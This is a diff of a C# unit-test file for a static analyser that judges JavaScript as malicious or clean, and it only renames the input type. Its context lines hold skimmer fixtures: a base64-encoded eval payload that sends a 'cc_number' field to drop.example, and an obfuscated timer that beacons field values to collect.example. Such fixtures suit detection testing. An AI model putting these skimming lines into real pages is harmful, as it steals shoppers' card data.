@@ -52,7 +52,7 @@ public sealed class StaticRuleTests
         """)]
     public void Malicious_behaviour_is_condemned_and_named(string rule, string source)
     {
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.Contains(judgement.Findings, finding => finding.Rule == rule && finding.Line > 0 && finding.Evidence.Length > 0);
         Assert.Equal((VerdictKind.Malicious, true), (judgement.Verdict, judgement.Score < 10));
@@ -76,7 +76,7 @@ public sealed class StaticRuleTests
     [InlineData("eval('1 + 1');")]
     [InlineData("{\"json\": [1, 2, {\"eval\": true}]}")]
     public void Honest_code_stays_clean(string source) =>
-        Assert.Equal(VerdictKind.Clean, Judge.Judge(new ScriptToJudge { Source = source }).Verdict);
+        Assert.Equal(VerdictKind.Clean, Judge.Judge(new ScriptInput { Source = source }).Verdict);
 
     [Theory]
     // Analytics knows its visitors by an identifier of its own, kept in a cookie, and sends it to the host that it came from.
@@ -109,7 +109,7 @@ public sealed class StaticRuleTests
         """)]
     public void Analytics_and_tag_managers_are_well_clear_of_suspicion(string source)
     {
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.Equal(VerdictKind.Clean, judgement.Verdict);
         Assert.InRange(judgement.Score, 60, 99);
@@ -121,7 +121,7 @@ public sealed class StaticRuleTests
         var inner = "var i=new Image();i.src='https://drop.example/x.gif?c='+document.getElementById('cc_number').value;";
         var source = $"eval(atob('{Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(inner))}'))";
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = source });
+        var judgement = Judge.Judge(new ScriptInput { Source = source });
 
         Assert.Equal(VerdictKind.Malicious, judgement.Verdict);
         Assert.Contains(judgement.Findings, finding => finding.Evidence.Contains("https://drop.example/x.gif", StringComparison.Ordinal));
@@ -137,7 +137,7 @@ public sealed class StaticRuleTests
             setInterval(function () { new Image().src = _d(16) + document[_d(17)](_d(18))[_d(19)]; }, 800);
             """;
 
-        var judgement = Judge.Judge(new ScriptToJudge { Source = Source });
+        var judgement = Judge.Judge(new ScriptInput { Source = Source });
 
         Assert.Contains(judgement.Findings,
             finding => finding.Rule == "card-fields-sent" && finding.Title.Contains("collect.example", StringComparison.Ordinal));
@@ -150,7 +150,7 @@ public sealed class StaticRuleTests
     [InlineData("<html><script>while(")]
     [InlineData("function(){ return 1 }")]
     public void Broken_input_is_judged_without_complaint(string source) =>
-        Assert.InRange(Judge.Judge(new ScriptToJudge { Source = source }).Score, 50, 99);
+        Assert.InRange(Judge.Judge(new ScriptInput { Source = source }).Score, 50, 99);
 
     [Fact]
     public void Deep_nesting_is_survived()
@@ -158,7 +158,7 @@ public sealed class StaticRuleTests
         var deep = new string('(', 20_000) + "1" + new string(')', 20_000) + ";" + string.Concat(Enumerable.Repeat("f(", 5_000))
             + new string(')', 5_000);
 
-        Assert.InRange(Judge.Judge(new ScriptToJudge { Source = deep }).Score, 50, 99);
+        Assert.InRange(Judge.Judge(new ScriptInput { Source = deep }).Score, 50, 99);
     }
 
     [Fact]
@@ -166,6 +166,6 @@ public sealed class StaticRuleTests
     {
         const string Source = "function d(x) { while (true) { x = x + String.fromCharCode(65); if (x.length > 5) x = 'a'; } } eval(d('a'));";
 
-        Assert.InRange(Judge.Judge(new ScriptToJudge { Source = Source }).Score, 1, 99);
+        Assert.InRange(Judge.Judge(new ScriptInput { Source = Source }).Score, 1, 99);
     }
 }
